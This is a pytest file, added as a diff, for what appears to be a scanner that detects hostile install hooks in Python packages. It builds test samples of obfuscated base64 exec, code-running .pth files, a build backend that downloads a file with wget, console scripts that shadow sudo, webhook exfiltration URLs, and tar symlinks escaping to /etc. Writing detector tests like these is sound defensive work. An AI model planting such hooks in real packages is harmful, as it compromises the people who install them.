@@ -1,0 +1,168 @@
+"""The install-hook scanner on real sdists and wheels: one hostile sample and one benign
+near-miss per rule, severities, locations and evidence."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from safepip.checks.hooks.rules import RULES
+from safepip.checks.install_hooks import InstallHookCheck, identify, scan_path
+from safepip.findings import Finding, Severity
+from tests.checks.hostile import CASES, Case, make_sdist, make_wheel, setup_py
+
+
+def _rule(findings: list[Finding], rule: str) -> list[Finding]:
+    return [f for f in findings if f.rule == rule]
+
+
+def _worst(findings: list[Finding], rule: str) -> Severity | None:
+    return max((f.severity for f in _rule(findings, rule)), default=None)
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
+def test_hostile_setup_py_fires_the_rule(case: Case, tmp_path: Path) -> None:
+    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(case.hostile, tmp_path / "c")})
+    findings = scan_path(sdist)
+    worst = _worst(findings, case.rule)
+    assert worst is not None and worst >= Severity.parse(case.minimum), findings
+    hit = _rule(findings, case.rule)[0]
+    assert hit.package == "demo" and hit.version == "1.0"
+    assert hit.location is not None and hit.location.path == "demo-1.0/setup.py"
+    assert hit.location.line and hit.evidence and hit.message.endswith("(install time).")
+    assert not (tmp_path / "c").exists()
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.rule)
+def test_benign_near_miss_stays_below_low(case: Case, tmp_path: Path) -> None:
+    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(case.near_miss, tmp_path / "c")})
+    findings = scan_path(sdist)
+    assert all(f.severity < Severity.LOW for f in _rule(findings, case.rule)), findings
+    assert all(f.severity < Severity.MEDIUM for f in findings), findings
+
+
+def test_every_rule_is_documented() -> None:
+    for rule_id, info in RULES.items():
+        assert rule_id == info.id and rule_id.startswith("hook/")
+        assert info.short and info.full and info.help
+    assert {c.rule for c in CASES} <= set(RULES)
+
+
+def test_build_tools_are_info_and_computed_commands_low(tmp_path: Path) -> None:
+    body = ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython'])\n"
+            "cmd = [sys.argv[1]]\nsubprocess.call(cmd)\n")
+    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup_py(body, tmp_path)}))
+    severities = sorted(f.severity for f in _rule(findings, "hook/process-exec"))
+    assert severities == [Severity.INFO, Severity.LOW]
+
+
+def test_setup_imports_are_install_time_and_package_code_is_lowered(tmp_path: Path) -> None:
+    hidden = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+    files = {
+        "setup.py": "import build_helpers\nfrom setuptools import setup\nsetup()\n",
+        "build_helpers.py": hidden,
+        "demo/__init__.py": hidden,
+    }
+    findings = _rule(scan_path(make_sdist(tmp_path, "demo", "1.0", files)), "hook/exec-obfuscated")
+    by_path = {f.location.path: f for f in findings if f.location}
+    assert by_path["demo-1.0/build_helpers.py"].severity is Severity.CRITICAL
+    assert by_path["demo-1.0/demo/__init__.py"].severity is Severity.HIGH
+    assert by_path["demo-1.0/demo/__init__.py"].message.endswith("(import time).")
+
+
+def test_in_tree_backend_is_reported_and_scanned(tmp_path: Path) -> None:
+    files = {
+        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
+                          "backend-path = ['_build']\n",
+        "_build/backend.py": "import os\nos.system('wget https://example.invalid/a -O /tmp/a')\n",
+    }
+    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
+    assert _worst(findings, "hook/custom-backend") is Severity.LOW
+    assert _worst(findings, "hook/download-exec") is Severity.HIGH
+    near = {"pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
+                              "build-backend = 'setuptools.build_meta'\n"}
+    assert _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", near)) if
+                 (tmp_path / "n").mkdir() is None else [], "hook/custom-backend") == []
+
+
+def test_pth_with_code_fires_and_path_entries_do_not(tmp_path: Path) -> None:
+    hostile = {"evil.pth": "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}
+    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", hostile))
+    assert _worst(findings, "hook/pth-exec") is Severity.CRITICAL
+    plain = {"demo.pth": "src\n../lib\n# comment\n"}
+    (tmp_path / "n").mkdir()
+    assert _rule(scan_path(make_wheel(tmp_path / "n", "demo", "1.0", plain)), "hook/pth-exec") == []
+    shim = {"shim.pth": "import demo_shim\n"}
+    (tmp_path / "s").mkdir()
+    assert _worst(scan_path(make_wheel(tmp_path / "s", "demo", "1.0", shim)),
+                  "hook/pth-exec") is Severity.MEDIUM
+
+
+def test_console_script_shadowing(tmp_path: Path) -> None:
+    hostile = {"{info}/entry_points.txt": "[console_scripts]\nsudo = demo:main\ndemo = demo:cli\n"}
+    findings = _rule(scan_path(make_wheel(tmp_path, "demo", "1.0", hostile)),
+                     "hook/console-script-shadow")
+    assert [f.evidence for f in findings] == ["sudo"] and findings[0].severity is Severity.HIGH
+    (tmp_path / "p").mkdir()
+    own = {"{info}/entry_points.txt": "[console_scripts]\npip3 = pip:main\n"}
+    assert _rule(scan_path(make_wheel(tmp_path / "p", "pip", "1.0", own)),
+                 "hook/console-script-shadow") == []
+    (tmp_path / "s").mkdir()
+    setup = "from setuptools import setup\nsetup(entry_points={'console_scripts': ['ls = demo:m']})\n"
+    assert _rule(scan_path(make_sdist(tmp_path / "s", "demo", "1.0", {"setup.py": setup})),
+                 "hook/console-script-shadow")
+
+
+def test_native_binary_in_sdist(tmp_path: Path) -> None:
+    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"helper": elf}))
+    assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
+    (tmp_path / "n").mkdir()
+    text = {"helper": "#!/bin/sh\necho hi\n", "MZ-notes": "MZ is not enough\n"}
+    assert _rule(scan_path(make_sdist(tmp_path / "n", "demo", "1.0", text)), "hook/native-binary") == []
+
+
+def test_unparsable_setup_py_is_not_called_safe(tmp_path: Path) -> None:
+    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": "print 'py2'\n"}))
+    assert _worst(findings, "hook/unparsable") is Severity.MEDIUM
+    (tmp_path / "n").mkdir()
+    ok = scan_path(make_sdist(tmp_path / "n", "demo", "1.0", {"setup.py": "print('py3')\n"}))
+    assert _rule(ok, "hook/unparsable") == []
+
+
+def test_directory_scan_skips_symlinks(tmp_path: Path) -> None:
+    project = tmp_path / "demo"
+    project.mkdir()
+    (project / "setup.py").write_text("from setuptools import setup\nsetup()\n")
+    secret = tmp_path / "elsewhere.py"
+    secret.write_text("HOOK = 'https://discord.com/api/webhooks/1/2'\n")
+    (project / "linked.py").symlink_to(secret)
+    assert _rule(scan_path(project), "hook/webhook") == []
+    (project / "real.py").write_text(secret.read_text())
+    assert _rule(InstallHookCheck().check_artifact(_unpacked(project)), "hook/webhook")
+
+
+def _unpacked(root: Path):  # type: ignore[no-untyped-def]
+    from safepip.checks.interface import UnpackedArtifact
+
+    return UnpackedArtifact(*identify(root)[:2], root.name, "sdist", root)
+
+
+def test_unsafe_members_are_findings_and_scan_continues(tmp_path: Path) -> None:
+    import io
+    import tarfile
+
+    path = tmp_path / "demo-1.0.tar.gz"
+    with tarfile.open(path, "w:gz") as bundle:
+        link = tarfile.TarInfo("demo-1.0/escape")
+        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
+        bundle.addfile(link)
+        data = b"HOOK = 'https://hooks.slack.com/services/x'\n"
+        info = tarfile.TarInfo("demo-1.0/setup.py")
+        info.size = len(data)
+        bundle.addfile(info, io.BytesIO(data))
+    findings = scan_path(path)
+    unsafe = _rule(findings, "archive/unsafe-member")
+    assert unsafe and unsafe[0].severity is Severity.HIGH and unsafe[0].evidence == "demo-1.0/escape"
+    assert _rule(findings, "hook/webhook")
